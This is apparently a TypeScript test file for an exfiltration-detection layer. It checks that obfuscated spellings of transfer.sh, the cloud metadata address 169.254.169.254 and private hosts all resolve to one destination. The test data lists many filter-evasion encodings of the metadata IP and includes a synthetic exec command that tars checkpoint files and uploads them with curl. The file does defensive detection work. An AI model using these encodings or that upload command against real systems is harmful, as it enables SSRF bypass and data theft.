/**
 * Spellings of one place are one destination for Layer 2 (destination.ts, host-name.ts): the
 * familiarity key and the public/private decision a client-equivalent spelling gives must be the
 * ones the plain spelling gives, and so must the feature rows of otherwise equal events.
 */
import { describe, expect, it } from 'vitest';
import type { EventRecord } from '../core/records.js';
import { mulberry32 } from '../core/mulberry32.js';
import { isPublicHost, isPublicIp, parseDestination } from './destination.js';
import { buildFeatureContext, trajectoryFeatureRows } from './event-features.js';

const TRANSFER = [
  'https://transfer.sh/x',
  'https://ｔｒａｎｓｆｅｒ．ｓｈ/x',
  'https://ＴＲＡＮＳＦＥＲ．ＳＨ/x',
  'https://%74ransfer.sh/x',
  'https://%EF%BD%94ransfer.sh/x',
  'https://transfer。sh/x',
  'https://transfer｡sh/x',
  'https://TRANSFER.SH./x',
  'https://tran\u00ADsfer.sh/x',
  'https://user:pw@ｔｒａｎｓｆｅｒ．ｓｈ:443/x',
  'root@ｔｒａｎｓｆｅｒ．ｓｈ:/x',
];

const METADATA = [
  'http://169.254.169.254/latest/meta-data/',
  'http://0xA9FEA9FE/latest',
  'http://0xa9fea9fe./latest',
  'http://2852039166/latest',
  'http://0251.0376.0251.0376/',
  'http://0xa9.0xfe.0xa9.0xfe/',
  'http://169.254.43518/',
  'http://169.16689662/',
  'http://１６９．２５４．１６９．２５４/',
  'http://１６９。２５４。１６９。２５４/',
  'http://０ｘＡ９ＦＥＡ９ＦＥ/',
  'http://%31%36%39.254.169.254/',
  'http://%30xA9FEA9FE/',
  'http://[::ffff:169.254.169.254]/',
  'http://[::FFFF:A9FE:A9FE]/',
  'http://[0:0:0:0:0:ffff:a9fe:a9fe]:80/',
  'root@0xA9FEA9FE:/x',
  '169.254.169.254:80',
  '0251.0376.0251.0376',
  '１６９．２５４．１６９．２５４:80',
];

describe('spellings of one host', () => {
  it.each(TRANSFER)('%s is transfer.sh, public', (text) => {
    expect(parseDestination(text)).toEqual({ key: 'host:transfer.sh', publicHost: true });
  });

  it.each(METADATA)('%s is 169.254.169.254, not public', (text) => {
    expect(parseDestination(text)).toEqual({ key: 'host:169.254.169.254', publicHost: false });
  });

  it('keys IDN hosts by their punycode', () => {
    for (const t of ['https://bücher.de/x', 'https://BÜCHER.de/', 'https://xn--bcher-kva.de/', 'https://b%C3%BCcher.de/']) {
      expect(parseDestination(t), t).toEqual({ key: 'host:xn--bcher-kva.de', publicHost: true });
    }
  });

  it('keeps cluster names and private ranges private in any spelling', () => {
    const priv: [string, string][] = [
      ['http://ｍｉｎｉｏ．ｓｔｏｒａｇｅ．ｓｖｃ:9000/b', 'host:minio.storage.svc'],
      ['http://MINIO.storage.svc.cluster.local./b', 'host:minio.storage.svc.cluster.local'],
      ['http://ａｒｔｉｆａｃｔｓ:8080/x', 'host:artifacts'],
      ['http://0x7f000001/', 'host:127.0.0.1'],
      ['http://2130706433/', 'host:127.0.0.1'],
      ['http://127.1/', 'host:127.0.0.1'],
      ['http://0/', 'host:0.0.0.0'],
      ['http://１０．０．０．１/', 'host:10.0.0.1'],
      ['http://0xC0A80001/', 'host:192.168.0.1'],
      ['http://[0:0:0:0:0:0:0:1]/', 'host:::1'],
      ['http://[FD00:0:0:0:0:0:0:1]/', 'host:fd00::1'],
      ['http://[fe80::1%25eth0]/', 'host:fe80::1'],
      ['http://[::ffff:10.1.2.3]/', 'host:10.1.2.3'],
    ];
    for (const [t, key] of priv) {
      const d = parseDestination(t);
      expect(d, t).toEqual({ key, publicHost: false });
    }
    // Octal 172.64.0.1: outside 172.16/12.
    expect(parseDestination('http://0254.0100.0.1/')).toEqual({ key: 'host:172.64.0.1', publicHost: true });
  });

  it('decides on IPv6 groups, not on text', () => {
    for (const ip of ['0:0:0:0:0:0:0:1', '::ffff:a9fe:a9fe', '::FFFF:10.0.0.1', 'FE80::1', 'febf::1', 'FC00::1', '::']) expect(isPublicIp(ip), ip).toBe(false);
    for (const ip of ['fc::1', 'fec0::1', '2001:DB8::1', '::ffff:8.8.8.8', '::ffff:808:808']) expect(isPublicIp(ip), ip).toBe(true);
    for (const junk of ['a:b', ':::', 'fe80::1::2', '1:2:3:4:5:6:7:8:9']) expect(isPublicIp(junk), junk).toBe(false);
    expect(parseDestination('http://[2001:DB8:0:0:1:0:0:1]/')?.key).toBe('host:2001:db8::1:0:0:1');
    expect(parseDestination('http://[2001:0db8::0001]/')?.key).toBe('host:2001:db8::1');
    expect(parseDestination('http://[zz::1]/')).toBeNull();
    expect(isPublicHost('169.254.169.254')).toBe(false);
  });

  it('does not take lone ASCII numbers or invalid numeric hosts for addresses outside URLs', () => {
    for (const t of ['30', '0x10', '2852039166', '1.5', '0.01', '127.1', '[::ffff:10.0.0.1]:80', '[::1]']) expect(parseDestination(t), t).toBeNull();
    // The URL parser rejects these: no client reaches them, they stay as written.
    expect(parseDestination('http://1.2.3.999/')).toEqual({ key: 'host:1.2.3.999', publicHost: true });
    expect(parseDestination('http://08.1.2.3/')).toEqual({ key: 'host:08.1.2.3', publicHost: true });
    // A dotted quad of decimal parts keeps its decimal key (as Layer 1's ip-cidr.ts), but a client
    // reads the leading zero as octal (8.1.2.3, public): the data may leave the cluster.
    expect(parseDestination('http://010.1.2.3/')).toEqual({ key: 'host:010.1.2.3', publicHost: true });
    expect(parseDestination('http://010.001.002.003/')).toEqual({ key: 'host:010.001.002.003', publicHost: true });
    // Without a leading zero there is one reading.
    expect(parseDestination('http://10.1.2.3/')?.publicHost).toBe(false);
  });

  it('rejects what no client resolves', () => {
    for (const t of ['https://ｅｖｉｌ：８０/', 'https://a%2Fb/', 'https://e%00vil.com/', 'https://xn--a.com\u00AD%/', 'http://[1.2.3.4]/', 'https://．．/']) expect(parseDestination(t), t).toBeNull();
  });
});

function appUpload(job: string, destination: string, ts: number): EventRecord {
  return { ts, source: 'app', actor: 'svc-ckpt-sync@corp.example', action: 'artifact_upload', resource: '/ckpt/model.pt', namespace: 'ml', job, node: null, gpu: null, outcome: null, attrs: { destination, bytes: 6e8 }, line: 1, offset: 0 };
}

function execCurl(job: string, url: string, ts: number): EventRecord {
  return {
    ts, source: 'k8s_audit', actor: 'system:serviceaccount:ml:trainer', action: 'create', resource: 'pods/exec', namespace: 'ml', job, node: null, gpu: null, outcome: 'success',
    attrs: { subresource: 'exec', objectName: 't-0', exec: { command: ['sh', '-c', `tar czf /tmp/b.tgz /mnt/ckpt && curl -sS -T /tmp/b.tgz ${url}`], container: 'c', stdin: false, tty: false }, sourceIPs: ['10.0.0.9'] },
    line: 1, offset: 0,
  };
}

/** Feature rows of a three-job case: two jobs send to `a`, the last to `b` (in a command too). */
function caseRows(a: string, b: string): Float32Array[] {
  const t = Date.UTC(2026, 0, 5, 6) * 1000;
  const jobs = [
    [appUpload('j1', a, t), execCurl('j1', a, t + 1e6)],
    [appUpload('j2', a, t + 2e6)],
    [appUpload('j3', b, t + 3e6), execCurl('j3', b, t + 4e6)],
  ];
  const ctx = buildFeatureContext(jobs.flat());
  return jobs.map((events) => trajectoryFeatureRows(events, ctx));
}

describe('feature rows', () => {
  const pairs = [...TRANSFER.slice(1, 10).map((s) => [TRANSFER[0]!, s]), ...METADATA.slice(1, 16).map((s) => [METADATA[0]!, s])];
  it.each(pairs)('are equal for %s and %s', (plain, spelled) => {
    const want = caseRows(plain, plain);
    expect(caseRows(plain, spelled)).toEqual(want);
    expect(caseRows(spelled, plain)).toEqual(want);
  });
});

describe('fuzz: mutated spellings', () => {
  it('never throws, stays bounded, and a key read back as a URL is the same key', () => {
    const seeds = [...TRANSFER, ...METADATA, 'https://upload.filedrop-cdn.net/u/x?sig=1', 's3://corp-ml-checkpoints/k', 'remote:model-mirror-4412/x/', 'http://[2001:db8::1]:80/', 'oci://ghcr.io/org/img:tag'];
    const bits = ['．', '。', '%', '%2e', '%41', '%C3%BC', 'Ａ', '１', '0x', '\u00AD', '\u200D', 'ß', '[', ']', ':', '@', '/', '.', '..', 'ü', '\uD800', ' ', '\t', 'xn--', '-'];
    const r = mulberry32(20260305);
    const t0 = Date.now();
    for (let i = 0; i < 4000; i++) {
      let s = seeds[Math.floor(r() * seeds.length)]!;
      for (let m = 1 + Math.floor(r() * 3); m > 0; m--) {
        const at = Math.floor(r() * (s.length + 1));
        const cut = r() < 0.3 ? 1 : 0;
        s = s.slice(0, at) + bits[Math.floor(r() * bits.length)]! + s.slice(at + cut);
      }
      if (r() < 0.02) s = s.replace('//', `//${'ｅ'.repeat(1500)}`);
      const d = parseDestination(s);
      if (d === null || !d.key.startsWith('host:')) continue;
      const host = d.key.slice(5);
      expect(host.length, s).toBeLessThanOrEqual(253);
      const again = parseDestination(host.indexOf(':') >= 0 ? `http://[${host}]/` : `http://${host}/`);
      expect(again, s).toEqual(d);
    }
    expect(Date.now() - t0).toBeLessThan(5000);
  });
});
